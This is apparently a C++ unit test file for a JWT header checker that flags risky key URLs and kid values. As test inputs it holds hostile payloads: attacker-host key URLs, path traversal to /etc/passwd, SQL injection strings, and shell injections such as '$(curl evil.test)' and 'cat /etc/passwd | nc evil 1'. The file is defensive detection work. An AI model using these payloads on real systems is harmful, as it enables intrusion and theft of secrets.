#include "agent/jose/header_check.h"

#include <gtest/gtest.h>

namespace tokenwatch::jose {
namespace {

using Findings = std::vector<std::string>;

v1::TokenInfo Kid(std::string_view kid) {
  v1::TokenInfo t;
  t.set_alg("HS256");
  t.set_kid(std::string(kid));
  return t;
}

std::vector<std::string> KidFindings(std::string_view kid) {
  return HeaderFindings(Kid(kid), "idp.example.com");
}

TEST(HeaderCheckTest, CleanHeadersHaveNoFindings) {
  v1::TokenInfo t;
  t.set_alg("RS256");
  t.set_typ("JWT");
  EXPECT_EQ(HeaderFindings(t, "idp.example.com"), Findings{});
  for (std::string_view kid :
       {"rsa-1", "2023-11-rotation", "bilbo.baggins@hobbiton.example",
        "018c0ae5-4d9b-471b-bfd6-eef314bc7037", "nOo3ZDrODXEK1jKWhXslHR_KXEg",
        // AWS Cognito-style standard base64, with '/' and '+'
        "/dtoZlv5dSvqPpzW3s3y+iEjlJgGxKCJtBbMjLUiY0k=", "a/b/c", "key.v2",
        "12345"}) {
    EXPECT_EQ(KidFindings(kid), Findings{}) << kid;
  }
}

TEST(HeaderCheckTest, KeyUrlsOnAndOffTheIssuersHost) {
  v1::TokenInfo t;
  t.set_jku("https://evil.test/jwks.json");
  EXPECT_EQ(HeaderFindings(t, "idp.example.com"),
            Findings({"jku: key URL off the issuer's host (evil.test, issuer "
                      "idp.example.com)"}));
  t.set_jku("https://IDP.example.com:8443/.well-known/jwks.json");
  EXPECT_EQ(HeaderFindings(t, "idp.example.com"),
            Findings({"jku: key URL on the issuer's host (idp.example.com)"}));
  // An issuer URL works as well as a host.
  EXPECT_EQ(HeaderFindings(t, "https://idp.example.com"),
            Findings({"jku: key URL on the issuer's host (idp.example.com)"}));
  EXPECT_EQ(HeaderFindings(t, ""),
            Findings({"jku: key URL on host idp.example.com"}));
  // Userinfo and backslash tricks name the real host.
  t.set_jku("https://idp.example.com@evil.test/k");
  EXPECT_EQ(HeaderFindings(t, "idp.example.com"),
            Findings({"jku: key URL off the issuer's host (evil.test, issuer "
                      "idp.example.com)"}));
  t.set_jku("https://evil.test\\@idp.example.com/k");
  EXPECT_EQ(HeaderFindings(t, "idp.example.com"),
            Findings({"jku: key URL off the issuer's host (evil.test, issuer "
                      "idp.example.com)"}));
  t.set_jku("/relative/jwks");
  EXPECT_EQ(HeaderFindings(t, "idp.example.com"),
            Findings({"jku: key URL that names no host"}));

  v1::TokenInfo x;
  x.set_x5u("http://[::1]:8080/cert.pem");
  EXPECT_EQ(HeaderFindings(x, "idp.example.com"),
            Findings({"x5u: key URL off the issuer's host ([::1], issuer "
                      "idp.example.com)"}));
  x.set_jku("https://idp.example.com/jwks");
  x.set_has_jwk(true);
  EXPECT_EQ(
      HeaderFindings(x, "idp.example.com"),
      Findings(
          {"jku: key URL on the issuer's host (idp.example.com)",
           "x5u: key URL off the issuer's host ([::1], issuer idp.example.com)",
           "jwk: embedded public key (the token carries its own key)"}));
}

TEST(HeaderCheckTest, EmbeddedJwk) {
  v1::TokenInfo t;
  t.set_has_jwk(true);
  EXPECT_EQ(
      HeaderFindings(t, ""),
      Findings({"jwk: embedded public key (the token carries its own key)"}));
}

TEST(HeaderCheckTest, KidPathTraversal) {
  EXPECT_EQ(KidFindings("../../../../../../dev/null"),
            Findings({"kid: path traversal (../)"}));
  EXPECT_EQ(KidFindings("..\\..\\windows\\win.ini"),
            Findings({"kid: path traversal (..\\)"}));
  EXPECT_EQ(KidFindings("keys/%2E%2E/%2e%2e/etc/passwd"),
            Findings({"kid: path traversal (..)"}));
  EXPECT_EQ(KidFindings("keys/.."), Findings({"kid: path traversal (..)"}));
  EXPECT_EQ(KidFindings("/dev/null"), Findings({"kid: absolute path"}));
  EXPECT_EQ(KidFindings("/proc/sys/kernel/randomize_va_space"),
            Findings({"kid: absolute path"}));
  EXPECT_EQ(KidFindings("C:\\keys\\k.pem"), Findings({"kid: absolute path"}));
  EXPECT_EQ(KidFindings("file:///etc/passwd"),
            Findings({"kid: absolute path"}));
  EXPECT_EQ(KidFindings(std::string("key.pem\0.jpg", 12)),
            Findings({"kid: NUL byte (truncates a file path)"}));
  EXPECT_EQ(KidFindings("/../../etc/passwd"),
            Findings({"kid: path traversal (../)", "kid: absolute path"}));
}

TEST(HeaderCheckTest, KidInjection) {
  EXPECT_EQ(KidFindings("x' UNION SELECT 'key"),
            Findings({"kid: SQL metacharacters (' union)"}));
  EXPECT_EQ(KidFindings("1' or '1'='1"),
            Findings({"kid: SQL metacharacters (' or)"}));
  EXPECT_EQ(KidFindings("k\"; DROP TABLE keys; --"),
            Findings({"kid: SQL metacharacters (\" ; --)"}));
  EXPECT_EQ(KidFindings("k/**/OR/**/1=1"),
            Findings({"kid: SQL metacharacters (/*)"}));
  EXPECT_EQ(KidFindings("key|whoami"),
            Findings({"kid: shell metacharacters (|)"}));
  EXPECT_EQ(KidFindings("`id`"), Findings({"kid: shell metacharacters (`)"}));
  EXPECT_EQ(KidFindings("$(curl evil.test)"),
            Findings({"kid: shell metacharacters ($()"}));
  EXPECT_EQ(KidFindings("a && b"),
            Findings({"kid: shell metacharacters (&&)"}));
  EXPECT_EQ(KidFindings("k > /tmp/x"),
            Findings({"kid: shell metacharacters (>)"}));
  EXPECT_EQ(KidFindings("k < /tmp/x"),
            Findings({"kid: shell metacharacters (<)"}));
  EXPECT_EQ(KidFindings("k\r\nX-Injected: 1"),
            Findings({"kid: control characters (CR, LF, ...)"}));
  // Several classes at once, in a fixed order.
  EXPECT_EQ(
      KidFindings("../k'; cat /etc/passwd | nc evil 1"),
      Findings({"kid: path traversal (../)", "kid: SQL metacharacters (' ;)",
                "kid: shell metacharacters (|)"}));
  // Words only count as SQL with spaces around them.
  EXPECT_EQ(KidFindings("orders-union-key"), Findings{});
}

TEST(HeaderCheckTest, UrlHost) {
  EXPECT_EQ(UrlHost("https://Example.COM./x"), "example.com");
  EXPECT_EQ(UrlHost("https://user:pw@h.test:443/x?y#z"), "h.test");
  EXPECT_EQ(UrlHost("//h.test/x"), "h.test");
  EXPECT_EQ(UrlHost("https://[2001:db8::1]:8443/"), "[2001:db8::1]");
  EXPECT_EQ(UrlHost("https://h.test?x=://"), "h.test");
  EXPECT_EQ(UrlHost("h.test"), "");
  EXPECT_EQ(UrlHost("/a/b://c"), "");
  EXPECT_EQ(UrlHost("https://[::1"), "");
  EXPECT_EQ(UrlHost(""), "");
  EXPECT_EQ(UrlHost("https://"), "");
}

}  // namespace
}  // namespace tokenwatch::jose
